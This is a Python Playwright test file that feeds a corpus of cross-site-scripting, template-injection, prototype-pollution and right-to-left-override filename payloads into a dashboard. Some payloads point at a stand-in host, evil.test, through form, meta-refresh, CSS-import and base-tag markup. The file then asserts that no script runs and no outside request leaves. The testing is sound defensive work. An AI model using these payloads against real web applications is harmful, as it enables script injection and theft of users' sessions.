"""What came from files, screens, clients and models is shown as it stands; whatever it says, nothing comes of it."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, expect

from server.dashboard.pages import PAGES
from tests.dashboard.conftest import ROOT, Dashboard, started
from tests.fakes.videos.odd_clips import write_screen
from tests.fakes.web.browsing import Window
from tests.fakes.web.page_tour import settled, unfolded

pytestmark = pytest.mark.screen
MARK: Final = "injected"
"""Part of every element that one of the texts would make."""
FLIPPED: Final = "\u202egpj.exe\u2066\u200b\u2028"
CORPUS: Final = (
    "<script id=injected>hit()</script>",
    "<img id=injected src=x onerror=hit()>",
    "<svg id=injected onload=hit()><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe id=injected srcdoc='<script>parent.hit()</script>'></iframe>",
    "<a id=injected href=javascript:hit()>x</a>",
    "<form id=injected action=https://evil.test/><button>Send</button></form>",
    "<meta id=injected http-equiv=refresh content='0;url=https://evil.test/'>",
    "<style id=injected>@import 'https://evil.test/a.css';</style>",
    "<link id=injected rel=stylesheet href=https://evil.test/a.css>",
    "<base id=injected href=https://evil.test/>",
    "<video id=injected src=https://evil.test/a.mp4 autoplay>",
    "<math><mtext><table><mglyph><style><img id=injected src=x onerror=hit()>",
    "</textarea></title></style></script><img id=injected src=x onerror=hit()>",
    '"><img id=injected src=x onerror=hit()>',
    "' autofocus onfocus=hit() id=injected x='",
    "[injected](javascript:hit())",
    "[injected](JaVa\tScRiPt:hit())",
    "[injected](data:text/html,<script>hit()</script>)",
    "![injected](https://evil.test/a.png)",
    "![injected](x){onerror=hit()}",
    "<javascript:hit()>",
    "`<img id=injected src=x onerror=hit()>`",
    "&lt;img id=injected src=x onerror=hit()&gt;",
    "\\u003cimg id=injected src=x onerror=hit()\\u003e",
    "${hit()} {{constructor.constructor('hit()')()}} <%= hit() %>",
    "__proto__ constructor toString",
    "$content $token $head",
    FLIPPED,
)
NAME: Final = "<img id=injected src=x onerror=hit()>"
EVERYTHING: Final = " ".join(each.replace("\u2028", "") for each in CORPUS)
SILENT: Final = frozenset({"comparison", "run", "runs", "settings", "welcome"})
"""Pages that show none of the texts; a replay for a front end tells only how far it is, and is in no list of runs."""
WATCH: Final = """
globalThis.hits = 0;
globalThis.hit = () => { globalThis.hits += 1; };
"""
MADE: Final = r"""mark => {
  const leads = /^(href|src|action|formaction|xlink:href)$/;
  const program = /^[\s\0-\x1f]*(javascript|data:text|vbscript)/i;
  // A text may tell of an address that a person can go to; nothing else may lead there.
  const isMade = (element, { name, value }) =>
    (name === "id" && value === mark) || /^on/.test(name) || name === "srcdoc" ||
    (leads.test(name) && (program.test(value) || (element.localName !== "a" && /evil/.test(value))));
  const all = [...document.querySelectorAll("*")];
  const made = all.filter((each) => [...each.attributes].some((one) => isMade(each, one)));
  return made.map((each) => each.outerHTML.slice(0, 200));
}"""
TASK: Final = """\
# Task
Title: {name}
Goal: {all}
SuccessCriteria:
- {all}
SuggestedPlan:
1. Type "{all}" into the "{name}" field.
Notes: {all}

## Questions
- [required] {all}
- [x] {name}
  Answer: {all}
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
    """A daemon of its own: nobody else's pages show this."""
    data = tmp_path_factory.mktemp("hostile")
    _make_workflow(data / "workflows" / "hostile")
    (data / "workflows" / NAME).mkdir()
    (data / "workflows" / NAME / "schema.json").write_text(EVERYTHING)
    with started(data, display="private") as daemon:
        yield daemon


def _make_workflow(folder: Path) -> None:
    shutil.copytree(ROOT / "examples" / "workflows" / "parcel-form", folder)
    schema = json.loads((folder / "schema.json").read_text())
    schema |= {"task_name": NAME, "task_description_user": EVERYTHING, "detailed_task_description": EVERYTHING}
    schema["task_params"][0] |= {"description": NAME, "example": EVERYTHING}
    (folder / "schema.json").write_text(json.dumps(schema))


def _read_reports(dashboard: Dashboard, video: Path) -> dict[str, str]:
    """Bring the corpus in by every way there is; the path of the page that shows what came of each."""
    http = dashboard.http
    task = http.post("/tasks", json={"text": TASK.format(name=NAME, all=EVERYTHING)})
    assert task.status_code == 201, task.text
    action = {"type": NAME, "to": "alice", "message": EVERYTHING}
    posted = {"triggerType": "app_click", "triggerTarget": NAME, "request": f"{EVERYTHING} alice", "succeeded": True}
    kept = http.post("/reload", json={**posted, "actions": [action], "summary": EVERYTHING[:2000], "agentId": NAME})
    assert kept.status_code == 201, kept.text
    entry = kept.json()["cacheId"]
    http.post("/reload/options", json={"request": f"{EVERYTHING} bob"})
    replay = http.post("/replay", json={"cache_id": entry})
    assert replay.status_code == 202, replay.text
    http.post(f"/reload/{entry}/report", json={"succeeded": False, "reason": EVERYTHING[:500]})
    expectations = [
        *(each for each in CORPUS if "\t" not in each and each != FLIPPED),
        f'"{NAME}" is shown',
        f'"{NAME}" is not shown',
    ]
    analysis = dashboard.analysed(write_screen(video, lines=[(300, NAME)], until_ms=1500), *expectations)
    assert analysis["state"] == "done", analysis
    subjects = {
        "video": analysis["id"],
        "task": task.json()["id"],
        "workflow": "hostile",
        "run": replay.json()["job_id"],
        "entry": entry,
        "comparison": dashboard.compared(analysis, analysis)["id"],
    }
    return {page.name: f"{page.path.partition('{')[0]}{subjects.get(page.name, '')}" for page in PAGES}


def _tour(browser: Browser, dashboard: Dashboard, paths: dict[str, str]) -> None:
    """Look at each page: nothing may come of it."""
    window = Window(browser, dashboard.url, "injections")
    window.forgiven = ["Failed to load resource"]
    page = window.open("/")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    page.context.add_init_script(WATCH)
    for name, path in paths.items():
        page.goto(path)
        settled(page)
        unfolded(page)
        if name not in SILENT:
            # Where the texts are not even shown, nothing is proved.
            expect(page.locator("main")).to_contain_text(MARK)
        assert page.evaluate("hits") == 0, name
        assert page.evaluate(MADE, MARK) == [], name
        assert page.url == f"{dashboard.url}{path}", name
    assert not [url for url in asked if not url.startswith((dashboard.url, "data:image/png", "blob:"))]
    window.close()


@pytest.mark.nightly
def test_nothing_comes_of_what_texts_say_on_any_page(browser: Browser, hostile: Dashboard, tmp_path: Path) -> None:
    _tour(browser, hostile, _read_reports(hostile, tmp_path / f"{NAME}.mp4"))


@pytest.mark.nightly
def test_nothing_comes_of_what_a_run_is_told_and_sees(browser: Browser, hostile: Dashboard) -> None:
    job = hostile.ran(workflow="hostile", params={"street": NAME})
    _tour(browser, hostile, {"carried out": f"/ui/runs/{job['id']}", "all that was": "/ui/runs"})


def test_a_page_would_be_caught_that_made_elements_of_texts(window: Window) -> None:
    page = window.open("/")
    page.evaluate("""() => {
      const made = document.createElement("img");
      made.id = "injected";
      document.body.append(made, Object.assign(document.createElement("a"), {href: "javascript:hit()"}));
    }""")
    assert len(page.evaluate(MADE, MARK)) == 2


def test_what_is_searched_for_is_shown_as_text_too(browser: Browser, hostile: Dashboard) -> None:
    window = Window(browser, hostile.url, "searched")
    page = window.open("/ui/reload")
    page.context.add_init_script(WATCH)
    page.reload()
    page.get_by_label("A request, in your words").fill(f"{EVERYTHING[:2000]} bob")
    page.get_by_role("button", name="Look").click()
    expect(page.locator("#offered")).not_to_be_empty()
    assert page.evaluate("hits") == 0
    assert page.evaluate(MADE, MARK) == []
    window.close()
